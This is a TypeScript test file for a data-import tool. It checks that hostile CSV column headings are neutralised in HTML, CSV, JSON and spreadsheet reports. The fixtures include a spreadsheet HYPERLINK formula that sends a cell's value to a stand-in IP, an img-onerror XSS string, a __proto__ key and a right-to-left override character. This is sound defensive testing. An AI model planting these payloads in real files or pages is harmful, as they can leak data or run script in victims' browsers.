import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { inFolder, rungs } from '../command-line.ts';
import { csvText } from './hostile-extract.ts';

const LONG = 'x'.repeat(10_000);
const FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")';
const MARKUP = '<img src=x onerror=alert(1)>';
/** A file without headings: its first row was taken for them. */
const PERSON = 'jane.doe@example.org';
const headings = [
  'Occupation',
  'Grade',
  FORMULA,
  MARKUP,
  LONG,
  PERSON,
  '__proto__',
  'Line\nbreak',
  '\u202eedarG',
];

const rows = Array.from({ length: 120 }, (_, row) => [
  ['manager', 'clerical', 'manual'][row % 3] ?? '',
  ['A', 'B'][row % 2] ?? '',
  ...headings.slice(2).map((_heading, column) => `v${column}-${row % 3}`),
]);

/** Text of each file that holds the import report, those inside workbooks too. */
async function reportOf(folder: string): Promise<Readonly<Record<string, string>>> {
  writeFileSync(join(folder, 'extract.csv'), csvText([headings, ...rows]));
  const recipe = {
    rungs: 1,
    title: 'Headings',
    datasets: [
      {
        id: 'd',
        label: 'Staff',
        wave: '2026-03-31',
        file: 'extract.csv',
        read: { headerRow: 1 },
        columns: Object.fromEntries([
          ['Occupation', 'seb-occupation'],
          [FORMULA, 'location'],
          [LONG, 'function'],
        ]),
        answers: Object.fromEntries(
          ['manager', 'clerical', 'manual'].map((answer) => [answer, { group: 'intermediate' }]),
        ),
      },
    ],
    analyses: [{ analysis: 'import-report', dataset: 'd' }],
  };
  writeFileSync(join(folder, 'recipe.json'), JSON.stringify(recipe));
  const out = join(folder, 'out');
  const run = await rungs([
    'run',
    join(folder, 'recipe.json'),
    '--out',
    out,
    '--format',
    'html,csv,json,xlsx,ods',
  ]);
  expect(run.error).toBe('');
  expect(run.code).toBe(0);
  return Object.fromEntries(
    readdirSync(out).flatMap((name) => {
      const bytes = readFileSync(join(out, name));
      if (!/\.(xlsx|ods)$/.test(name)) return [[name, bytes.toString('utf8')]];
      const parts = Object.entries(unzipSync(bytes)).filter(([part]) => part.endsWith('.xml'));
      return parts.map(([part, text]) => [`${name}/${part}`, new TextDecoder().decode(text)]);
    }),
  );
}

describe('hostile headings in the report of an import', () => {
  it('are quoted, shortened and without data of a person, in every format', () =>
    inFolder(async (folder) => {
      const files = await reportOf(folder);
      const all = Object.values(files).join('\n');
      expect(all).toContain(`${'x'.repeat(90)} …`);
      expect(all).not.toContain('x'.repeat(91));
      expect(all).not.toContain(PERSON);
      expect(all).toContain('Heading not shown: it looks like data of a person');
      expect(all).not.toContain('\u202e');
      expect(all).toContain('Line break');
      expect(all).toContain('__proto__');
    }));

  it('make no element, and no formula', () =>
    inFolder(async (folder) => {
      const files = await reportOf(folder);
      const html = files['report.html'] ?? '';
      expect(html).toContain('&lt;img src=x');
      expect(html).not.toContain('<img');
      const columns = files['import-report-columns.csv'] ?? '';
      expect(columns).toContain(`"'=HYPERLINK(`);
      const sheets = Object.entries(files).filter(([name]) => /xlsx|ods/.test(name));
      expect(sheets.some(([, text]) => text.includes('HYPERLINK'))).toBe(true);
      for (const [, text] of sheets) expect(text).not.toMatch(/<f>|table:formula/);
    }));

  it('of more than 32,000 characters are refused in one sentence', () =>
    inFolder(async (folder) => {
      writeFileSync(
        join(folder, 'extract.csv'),
        csvText([
          ['Grade', 'y'.repeat(40_000)],
          ['A', 'b'],
          ['B', 'c'],
        ]),
      );
      const { code, error } = await rungs(['inspect', join(folder, 'extract.csv')]);
      expect(code).toBe(1);
      expect(error.trim()).toBe(
        'The heading of column 2 is longer than 32,000 characters. Check that the row with the headings is right, or shorten that one.',
      );
    }));
});
